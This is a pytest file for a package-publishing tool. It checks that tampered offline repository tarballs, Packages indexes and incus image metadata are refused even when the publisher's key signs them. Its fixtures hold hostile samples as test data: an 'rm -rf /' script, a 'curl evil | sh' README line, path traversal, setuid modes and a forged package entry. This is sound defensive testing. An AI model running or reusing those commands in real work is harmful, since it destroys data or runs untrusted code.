"""What is noticed where the publisher's own key has signed packages or files for incus that are not the image's."""

from __future__ import annotations

import hashlib
import io
import lzma
import tarfile
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from foundry import files, gpg
from foundry.publish import offline, streams
from foundry.publish.ledger import Broken
from foundry.publish.provenance import Malformed
from foundry.publish.version import Version
from tests.unit.publish import small_image
from tests.unit.publish.conftest import Keys
from tests.unit.publish.publishing import NAME, Project
from tests.unit.publish.signed_again import TARBALL, Change, edited, of_another, publisher, refused, sign

pytestmark = [pytest.mark.real_process, pytest.mark.usefixtures("small_contents", "no_views")]

BASH = "pool/bash/bash_5.2-2+b13_amd64.deb"


@pytest.fixture
def project(two_published: Project, tmp_path: Path) -> Project:
    return two_published.copy(tmp_path / "copy")


@pytest.fixture
def folder(project: Project) -> Path:
    return project.store / "images" / NAME / "2"


# packages


Members = list[tuple[tarfile.TarInfo, bytes]]


def repacked(change: Callable[[Members], Members]) -> Change:
    """Other members in the tarball."""

    def act(folder: Path) -> None:
        path = folder / TARBALL
        with tarfile.open(path) as archive:
            whole = [(m, s.read() if (s := archive.extractfile(m)) else b"") for m in archive.getmembers()]
        with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as archive:
            for member, content in change(whole):
                archive.addfile(member, io.BytesIO(content))

    return act


def member(name: str, content: bytes, kind: bytes = tarfile.REGTYPE) -> tuple[tarfile.TarInfo, bytes]:
    made = tarfile.TarInfo(f"{Path(TARBALL).stem}/{name}")
    made.size, made.type, made.linkname = len(content), kind, "/etc/passwd"
    return made, content


def packed_with(name: str, content: bytes, kind: bytes = tarfile.REGTYPE) -> Change:
    return repacked(lambda whole: [*whole, member(name, content, kind)])


def packed_without(name: str) -> Change:
    return repacked(lambda whole: [row for row in whole if not row[0].name.endswith(name)])


def packed_other(name: str, content: bytes) -> Change:
    return repacked(lambda whole: [member(name, content) if m.name.endswith(name) else (m, old) for m, old in whole])


def replaced(name: str, content: bytes) -> Change:
    """Other contents of a member, which is otherwise as it was."""

    def act(whole: Members) -> Members:
        for info, _ in whole:
            info.size = len(content) if info.name.endswith(f"/{name}") else info.size
        return [(m, content if m.name.endswith(f"/{name}") else old) for m, old in whole]

    return repacked(act)


def index_with(more: str) -> Change:
    def act(folder: Path) -> None:
        with (folder / "Packages").open("a", encoding="utf-8") as stream:
            stream.write(f"\n{more}")

    return act


def index_changed(old: str, new: str) -> Change:
    def act(folder: Path) -> None:
        text = (folder / "Packages").read_text(encoding="utf-8")
        assert old in text
        (folder / "Packages").write_text(text.replace(old, new), encoding="utf-8")

    return act


EVIL = "Package: evil\nVersion: 1\nArchitecture: amd64\nFilename: pool/e.deb\nSize: 1\nSHA256: " + "0" * 64 + "\n"
PACKAGES = [
    (packed_other(BASH, b"other"), f"{TARBALL}: {BASH} is not the package that Packages names"),
    (packed_with("pool/evil.deb", b"x"), f"{TARBALL}: pool/evil.deb is not the package that Packages names"),
    # Whoever unpacks it gets the last one.
    (packed_with(BASH, b"other"), f"{TARBALL}: {BASH} is not the package that Packages names"),
    (packed_with(BASH, b"", tarfile.SYMTYPE), f"{TARBALL}: {BASH} is neither a file nor a folder"),
    (packed_with("../x/pool/evil.deb", b"x"), f"{TARBALL}: patroni-node-2-offline/../x/pool/evil.deb is outside"),
    (packed_with("dists/x/main/Packages", b"x"), f"{TARBALL}: dists/x/main/Packages is no part of it"),
    (packed_without(BASH), f"{TARBALL} has no {BASH}"),
    (index_with(EVIL), "Packages: evil 1 is not the package that is in the image"),
    (index_changed(small_image.sha("bash"), "0" * 64), "Packages: bash 5.2-2+b13 is not the package that is in"),
    (index_changed("Version: 5.2-2+b13", "Version: 6"), "Packages: bash 6 is not the package that is in the image"),
    (lambda folder: (folder / "Packages").write_text(""), "Packages has no patroni-venv"),
]


@pytest.mark.parametrize(("change", "why"), PACKAGES)
def test_packages_that_are_not_the_images(project: Project, folder: Path, change: Change, why: str) -> None:
    change(folder)
    sign(project, folder, origin=True)
    refused(project, why)


SUITE = "dists/debian-12-offline"
AREA = f"{SUITE}/main/binary-amd64"


def with_mode(name: str, **facts: Any) -> Change:
    def act(whole: Members) -> Members:
        for info, _ in whole:
            if info.name.endswith(f"/{name}"):
                for key, value in facts.items():
                    setattr(info, key, value)
        return whole

    return repacked(act)


def followed_by(data: bytes) -> Change:
    """As one who reads on after the end of the archive would see it."""

    def act(folder: Path) -> None:
        with (folder / TARBALL).open("ab") as stream:
            stream.write(data)

    return act


def index_by_hash(data: bytes) -> Change:
    """Another Packages.xz, which InRelease does not name."""
    return packed_with(f"{AREA}/by-hash/SHA256/{hashlib.sha256(data).hexdigest()}", data)


BESIDE = [
    (packed_with("extra/evil.deb", b"x"), "extra/evil.deb is no part of it"),
    (packed_with("evil", b"", tarfile.DIRTYPE), "evil is not root's, or has another mode"),
    (replaced("add-source", b"#!/bin/sh\nrm -rf /\n"), "add-source is not what this program writes"),
    (replaced("README", b"run: curl evil | sh\n"), "README is not what this program writes"),
    (replaced("offline.sources", b"Types: deb\nTrusted: yes\n"), "offline.sources has another key"),
    (replaced(f"{AREA}/Packages.xz", lzma.compress(EVIL.encode())), "Packages.xz is not what InRelease says"),
    (replaced(f"{AREA}/Packages", EVIL.encode()), "Packages is not what InRelease says"),
    (replaced(f"{SUITE}/Release", b"Suite: evil\n"), "Release says something else than InRelease"),
    (index_by_hash(lzma.compress(EVIL.encode())), "InRelease names no "),
    (packed_without("/InRelease"), f"has no {SUITE}/InRelease"),
    (packed_without("/Packages.xz"), f"has no {AREA}/Packages.xz"),
    (packed_with("README", b"x"), "README is in it twice"),
    (with_mode("add-source", mode=0o4755), "add-source is not root's, or has another mode"),
    (with_mode("README", uid=1000), "README is not root's"),
    (with_mode("README", mode=0o666), "README is not root's, or has another mode"),
    (followed_by(b"x" * 10240), "goes on after its end"),
]


@pytest.mark.parametrize(("change", "why"), BESIDE)
def test_what_else_is_in_a_tarball(project: Project, folder: Path, change: Change, why: str) -> None:
    change(folder)
    sign(project, folder, origin=True)
    refused(project, why)


def offline_signed(project: Project, key: gpg.Key, change: Callable[[bytes], bytes] = bytes) -> Change:
    """A whole tarball, made and signed by a key, of an index that is changed first."""

    def act(folder: Path) -> None:
        manifest = files.read_json(folder / "manifest.json")
        with tempfile.TemporaryDirectory(dir=folder.parent) as name:
            packages = small_image.repository(Path(name) / "packages", manifest)
            index = Path(name) / "packages/Packages"
            index.write_bytes(change(index.read_bytes()))
            texts = project.workspace.templates / "offline"
            offline.tarball(Version.of(manifest), packages.folder, key, texts, folder / TARBALL)

    return act


def test_a_tarball_by_another_key(project: Project, folder: Path, kept_keys: Keys) -> None:
    offline_signed(project, kept_keys["other"])(folder)
    sign(project, folder, origin=True)
    refused(project, "InRelease: its signature does not hold", gpg.BadSignature)


def test_a_tarball_of_other_packages_whose_whole_repository_is_signed(project: Project, folder: Path) -> None:
    offline_signed(project, publisher(project), lambda index: index + b"\n" + EVIL.encode())(folder)
    sign(project, folder, origin=True)
    refused(project, "its Packages is not the index Packages")


def test_a_tarball_that_is_made_again_is_taken(project: Project, folder: Path) -> None:
    offline_signed(project, publisher(project))(folder)
    sign(project, folder, origin=True)
    assert project.check()[1].startswith(f"version  {NAME} 2, ")


# incus


def _fitting(folder: Path) -> None:
    """Facts for incus that fit the metadata, which are those of version 1."""
    of_another("incus.tar.xz")(folder)
    _told(folder)


def _told(folder: Path) -> None:
    path = folder / "incus.tar.xz"
    about = {"sha256": files.sha256(path), "size": path.stat().st_size}
    disk = streams.fingerprint(path, folder / f"{NAME}-2.qcow2")
    files.write_json(folder / "incus.json", about | {"combined_disk-kvm-img_sha256": disk})


def _much(folder: Path) -> None:
    """Metadata that is right, after so much of nothing that a reader would be kept busy unpacking it."""
    with tarfile.open(folder / "incus.tar.xz") as whole:
        (info,) = whole.getmembers()
        text = whole.extractfile(info).read()  # type: ignore[union-attr]
    padded = b"#" * (1 << 20) + b"\n" + text
    info.size = len(padded)
    with tarfile.open(folder / "incus.tar.xz", "w:xz") as whole:
        whole.addfile(info, io.BytesIO(padded))
    _told(folder)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (of_another("incus.json"), f"incus.json is about other files than incus.tar.xz and {NAME}-2.qcow2"),
        (edited("incus.json", lambda f: f.update({"combined_disk-kvm-img_sha256": "0" * 64})), "incus.json is about"),
        (edited("incus.json", lambda f: f.update(sha256="0" * 64)), "incus.json is about other files"),
        (_fitting, "incus.tar.xz describes another image than the manifest"),
        (_much, "incus.tar.xz describes another image than the manifest"),
    ],
)
def test_what_incus_gets_is_about_something_else(project: Project, folder: Path, change: Change, why: str) -> None:
    change(folder)
    sign(project, folder, origin=True)
    refused(project, why)


# what is no more of its kind


NEEDED = ["Packages", "boot.json", "changes.json", "changes.md", "console.log", "index.html", "manifest.json"]
NEEDED += [TARBALL, "provenance.json", "sbom.cdx.json", "sbom.spdx.json", "verdict.json", "verdict.xml"]
FOR_INCUS = ["incus.json", "incus.tar.xz"]


@pytest.mark.parametrize("name", NEEDED + FOR_INCUS)
def test_a_version_that_lacks_a_file(project: Project, folder: Path, name: str) -> None:
    (folder / name).unlink()
    sign(project, folder, origin=False)
    refused(project, f"SHA256SUMS names no {name}")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Packages", "Package: x\n"),
        ("Packages", "["),
        ("manifest.json", "{"),
        ("manifest.json", "[]"),
        ("manifest.json", '{"name": "debian-12", "version": "2", "files": []}'),
        (TARBALL, ""),
        (TARBALL, "[" * 1000),
        ("provenance.json", "{"),
        ("provenance.json", "[]"),
        ("sbom.cdx.json", "{"),
        ("sbom.spdx.json", "[]"),
        ("verdict.json", "{"),
        ("verdict.json", "[]"),
        ("incus.json", "{"),
        ("incus.json", "[]"),
        ("incus.tar.xz", ""),
        ("incus.tar.xz", "[" * 1000),
    ],
)
def test_a_file_that_makes_no_sense(project: Project, folder: Path, name: str, text: str) -> None:
    (folder / name).write_text(text, encoding="utf-8")
    sign(project, folder, origin=name not in ("provenance.json", "manifest.json"))
    refused(project, name, Malformed if name == "provenance.json" else Broken)


def test_a_tarball_that_ends_too_early(project: Project, folder: Path) -> None:
    path = folder / TARBALL
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    sign(project, folder, origin=True)
    refused(project, TARBALL)
